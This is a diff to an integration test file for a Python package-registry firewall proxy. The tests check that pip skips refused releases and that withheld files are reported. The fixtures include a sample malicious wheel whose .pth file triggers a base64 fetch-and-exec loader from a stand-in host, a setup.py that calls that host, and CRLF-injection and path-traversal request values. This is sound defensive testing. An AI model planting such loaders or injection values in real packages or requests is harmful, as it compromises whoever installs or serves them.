@@ -3,12 +3,14 @@ import { type AddressInfo, connect } from 'node:net';
 import { devNull, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Readable } from 'node:stream';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { type ServerType, serve } from '@hono/node-server';
 import { execa } from 'execa';
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { openFirewall } from '../../src/firewall/firewall.ts';
 import { type Policy, recommendedPolicy } from '../../src/firewall/policy.ts';
 import { firewallServer } from '../../src/firewall/serve/firewall-server.ts';
+import type { Decide } from '../../src/firewall/serve/judge-page.ts';
 import { openMetrics } from '../../src/firewall/serve/metrics.ts';
 import { registryProxy } from '../../src/firewall/serve/registry-proxy.ts';
 import type { LogEntry } from '../../src/firewall/serve/types.ts';
@@ -23,9 +25,11 @@ import { type PackageIndex, startPackageIndex } from '../helpers/package-index.t
 
 let packageIndex: PackageIndex;
 let folder: string;
-let upstream: UpstreamIndex;
+type ServedIndex = ReturnType<typeof openUpstreamIndex>;
+let upstream: ServedIndex;
 let opened: Awaited<ReturnType<typeof start>>;
 
+const fetchingSetup = 'import urllib.request\nurllib.request.urlopen("http://192.0.2.1/")\n';
 const today = new Date().toISOString();
 const beforeCooldown = '2025-06-01T12:00:00Z';
 const policy: Policy = {
@@ -56,6 +60,19 @@ beforeAll(async () => {
   publish('zzqx-leaf', '1.1');
   publish('zzqx-growing', '1.0');
   publish('zzqx-growing', '2.0', today);
+  publish('zzqx-turned', '1.0');
+  publish('zzqx-turned', '1.1');
+  const stealing =
+    'import base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen("http://192.0.2.1/").read()))\n';
+  const turned = wheel({
+    name: 'zzqx-turned',
+    version: '2.0',
+    files: { 'zzqx.pth': 'import zzqx_run\n', 'zzqx_run.py': stealing },
+  });
+  packageIndex.publish('zzqx-turned', '2.0', turned, { uploadTime: beforeCooldown });
+  publish('zzqx-mixed', '1.0');
+  const mixed = await sdist({ name: 'zzqx-mixed', version: '1.0', files: { 'setup.py': fetchingSetup } });
+  packageIndex.publish('zzqx-mixed', '1.0', mixed, { uploadTime: beforeCooldown });
   publish('zzqx-allowed', '1.0', today);
   publish('zzqx-blocked', '1.0');
   publish('zzqx-malware', '1.0', beforeCooldown, { malware: ['1.0'] });
@@ -65,8 +82,7 @@ beforeAll(async () => {
     olderVersions: 0,
     repository: false,
   });
-  const setup = 'import urllib.request\nurllib.request.urlopen("http://192.0.2.1/")\n';
-  const fetching = await sdist({ name: 'zzqx-fetching', version: '1.0', files: { 'setup.py': setup } });
+  const fetching = await sdist({ name: 'zzqx-fetching', version: '1.0', files: { 'setup.py': fetchingSetup } });
   packageIndex.publish('zzqx-fetching', '1.0', fetching, { uploadTime: beforeCooldown });
   const startup = wheel({
     name: 'zzqx-startup',
@@ -93,7 +109,7 @@ const configuration = (indexUrl: string) => ({
 });
 
 /** Starts a server over an index. `inspected` is the index whose files the firewall inspects. */
-async function start(index: UpstreamIndex, inspected = index) {
+async function start(index: ServedIndex, inspected: UpstreamIndex = index, decide: Decide = async (all) => all) {
   const logged: LogEntry[] = [];
   const base = packageIndex.environment;
   const addresses = {
@@ -112,17 +128,19 @@ async function start(index: UpstreamIndex, inspected = index) {
   });
   const firewall = openFirewall({ policy, sources, now: Date.now, inspect: openIndexInspector(inspected, Date.now) });
   const metrics = openMetrics({ startedAt: 1_000, memory: () => 42 });
-  const onHidden = (_: string, files: number) => metrics.count('awspip_hidden_files_total', {}, files);
+  const onWithheld = (files: number) => metrics.count('awspip_withheld_files_total', {}, files);
+  const refused: string[] = [];
   const aborted: string[] = [];
   const onTransferError = (filename: string) => void aborted.push(filename);
   const proxy = registryProxy({
     onTransferError,
     firewall,
-    policy,
+    decide,
     upstream: index,
     isCompleteIndex: () => true,
-    now: Date.now,
-    onHidden,
+    sleep,
+    onWithheld,
+    onRefused: ({ name, version }) => void refused.push(`${name} ${version}`),
   });
   const log = (entry: LogEntry) => void logged.push(entry);
   const app = firewallServer({ firewall, proxy, metrics, log, clock: () => performance.now(), version: '1.2.3' });
@@ -130,7 +148,7 @@ async function start(index: UpstreamIndex, inspected = index) {
     const listening = serve({ fetch: app.fetch, hostname: '127.0.0.1', port: 0 }, () => resolve(listening));
   });
   const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-  return { origin, logged, aborted, close: () => new Promise((resolve) => server.close(resolve)) };
+  return { origin, logged, aborted, refused, close: () => new Promise((resolve) => server.close(resolve)) };
 }
 
 async function pip(...argv: readonly string[]) {
@@ -151,15 +169,15 @@ async function pip(...argv: readonly string[]) {
   });
 }
 
-const filesOf = async (name: string): Promise<{ filename: string; url: string }[]> => {
+const filesOf = async (name: string, userAgent = 'node'): Promise<{ filename: string; url: string }[]> => {
   const response = await fetch(`${opened.origin}/simple/${name}/`, {
-    headers: { accept: 'application/vnd.pypi.simple.v1+json' },
+    headers: { accept: 'application/vnd.pypi.simple.v1+json', 'user-agent': userAgent },
   });
   expect(response.status).toBe(200);
   return ((await response.json()) as { files: { filename: string; url: string }[] }).files;
 };
 const fileUrl = async (name: string) =>
-  new URL((await filesOf(name))[0]?.url ?? '', `${opened.origin}/simple/${name}/`).href;
+  new URL((await filesOf(name, 'pip/25.3'))[0]?.url ?? '', `${opened.origin}/simple/${name}/`).href;
 
 describe('pip through the registry proxy', () => {
   test('installs an allowed package with its dependencies', async () => {
@@ -193,6 +211,80 @@ describe('pip through the registry proxy', () => {
     const run = await pip('install', '--target', 'older', 'zzqx-growing');
     expect(run.exitCode, run.stderr).toBe(0);
     expect(await readdir(join(folder, 'older'))).toContain('zzqx_growing-1.0.dist-info');
+  });
+});
+
+describe('what a page leaves out', () => {
+  test('pip takes the next allowed release if the newest one is refused for its code', async () => {
+    const run = await pip('install', '--target', 'turned', 'zzqx-turned');
+    expect(run.exitCode, run.stderr).toBe(0);
+    expect(await readdir(join(folder, 'turned'))).toContain('zzqx_turned-1.1.dist-info');
+  });
+
+  test('is at /withheld with the reasons, and in the log', async () => {
+    const response = await fetch(`${opened.origin}/withheld/zzqx_turned`);
+    expect(await response.json()).toMatchObject({
+      package_name: 'zzqx-turned',
+      withheld: [
+        {
+          version: '2.0',
+          outcome: 'HELD',
+          files: ['zzqx_turned-2.0-py3-none-any.whl'],
+          reasons: [expect.stringContaining('zzqx_run.py:2')],
+        },
+      ],
+    });
+    await filesOf('zzqx-turned', 'devpi-server/6');
+    expect(opened.logged.at(-1)).toMatchObject({
+      withheld: expect.stringMatching(/^1 file: awspip put zzqx-turned 2\.0 on hold: /),
+      client: '127.0.0.1',
+      userAgent: 'devpi-server/6',
+    });
+  });
+
+  test('a registry in front sees no file of a project without an allowed release, and pip the newest with its reasons', async () => {
+    expect(await filesOf('zzqx-blocked', 'devpi-server/6')).toEqual([]);
+    expect(await filesOf('zzqx-blocked', 'pip/25.3')).toHaveLength(1);
+  });
+
+  test('an sdist that was refused is left out of the next page, and the wheel next to it is served', async () => {
+    const [wheelFile, sdistFile] = await filesOf('zzqx-mixed');
+    const urlOf = (file: { url: string } | undefined) =>
+      new URL(file?.url ?? '', `${opened.origin}/simple/zzqx-mixed/`);
+    expect((await fetch(urlOf(wheelFile))).status).toBe(200);
+    expect((await fetch(urlOf(sdistFile))).status).toBe(403);
+    expect((await filesOf('zzqx-mixed')).map(({ filename }) => filename)).toEqual([wheelFile?.filename]);
+    expect(opened.refused).toContain('zzqx-mixed 1.0');
+  });
+
+  test('a person’s decision changes the next page and the next file', async () => {
+    let outcome: 'ALLOWED' | 'BLOCKED' = 'BLOCKED';
+    const other = await start(upstream, upstream, async (all) =>
+      all.map((assessment) => ({ ...assessment, verdict: { ...assessment.verdict, outcome } })),
+    );
+    const files = async () => {
+      const page = await fetch(`${other.origin}/simple/zzqx-root/`, {
+        headers: { accept: 'application/vnd.pypi.simple.v1+json' },
+      });
+      return ((await page.json()) as { files: { url: string }[] }).files;
+    };
+    expect(await files()).toEqual([]);
+    outcome = 'ALLOWED';
+    const [file] = await files();
+    const url = new URL(file?.url ?? '', `${other.origin}/simple/zzqx-root/`);
+    expect((await fetch(url)).status).toBe(200);
+    outcome = 'BLOCKED';
+    expect((await fetch(url)).status).toBe(403);
+    await other.close();
+  });
+
+  test('the list of projects is passed through as JSON and HTML', async () => {
+    const listOf = async (accept: string) => (await fetch(`${opened.origin}/simple/`, { headers: { accept } })).text();
+    expect(JSON.parse(await listOf('application/vnd.pypi.simple.v1+json'))).toMatchObject({
+      meta: { 'api-version': '1.0' },
+      projects: expect.arrayContaining([{ name: 'zzqx-root' }]),
+    });
+    expect(await listOf('text/html')).toContain('<a href="zzqx-root/">zzqx-root</a>');
   });
 });
 
@@ -278,7 +370,7 @@ describe('files', () => {
   test('are no longer read once the client disconnects, and the server goes on', async () => {
     const bytes = Buffer.alloc(8 * 1_048_576);
     const opened: Readable[] = [];
-    const large: UpstreamIndex = {
+    const large: ServedIndex = {
       ...upstream,
       open: async () => {
         const stream = Readable.from(
@@ -305,7 +397,7 @@ describe('files', () => {
   });
 
   test('with a digest that differs from the index are aborted before their end', async () => {
-    const inconsistent: UpstreamIndex = {
+    const inconsistent: ServedIndex = {
       ...upstream,
       page: async (name) => {
         const answer = await upstream.page(name);
@@ -365,9 +457,7 @@ describe('monitoring', () => {
     expect(document).toMatchObject({ openapi: '3.1.0', info: { version: '1.2.3' } });
     const url = new URL(await fileUrl('zzqx-leaf')).pathname;
     for (const path of Object.keys(document.paths)) {
-      const requestPath = path
-        .replace('/simple/{name}/', '/simple/zzqx-leaf/')
-        .replace('/files/{name}/{digest}/{filename}', url);
+      const requestPath = path.replace('{name}', 'zzqx-leaf').replace('/files/zzqx-leaf/{digest}/{filename}', url);
       const query = path === '/package-check' ? '?package_name=zzqx-leaf' : '';
       expect((await fetch(`${opened.origin}${requestPath}${query}`)).status, path).toBe(200);
     }
@@ -376,12 +466,33 @@ describe('monitoring', () => {
 });
 
 describe('bad requests', () => {
+  test('a project or a version that does not exist is 404, with the status in the body', async () => {
+    const answerOf = async (query: string) => {
+      const response = await fetch(`${opened.origin}/package-check?package_name=${query}`);
+      return [response.status, await response.json()];
+    };
+    const body = { risk_level: null, score: null, reasons: {}, status: 'Not found', platform: 'pypi' };
+    expect(await answerOf('zzqx-nothing')).toEqual([404, expect.objectContaining({ ...body, version: null })]);
+    expect(await answerOf('zzqx-leaf&version=9.9')).toEqual([
+      404,
+      expect.objectContaining({ ...body, version: '9.9' }),
+    ]);
+    expect(await answerOf('zzqx-leaf&version=1.0.0')).toEqual([200, expect.objectContaining({ status: 'OK' })]);
+  });
+
+  test.each(['/package-check?package_name=a', '/healthz', '/metrics'])('another method for %s is 405', async (path) => {
+    const response = await fetch(`${opened.origin}${path}`, { method: 'POST' });
+    expect([response.status, response.headers.get('allow')]).toEqual([405, 'GET, HEAD']);
+  });
+
   test.each([
     ['/package-check?package_name=%F0%9F%90%8D', 400],
     ['/package-check?package_name=r%D0%B5quests', 400],
     ['/package-check?package_name=a%0d%0aset-cookie:x', 400],
     ['/package-check?package_name=a&version=1.0%00', 400],
     ['/package-check?package_name=a&platform=npm', 400],
+    ['/package-check?package_name=a&verison=1.0', 400],
+    ['/package-check?package_name=a&package_name=b', 400],
     ['/package-check?package_name=%zz', 400],
     ['/simple/%2e%2e%2f/', 404],
     ['/simple/%zz/', 404],
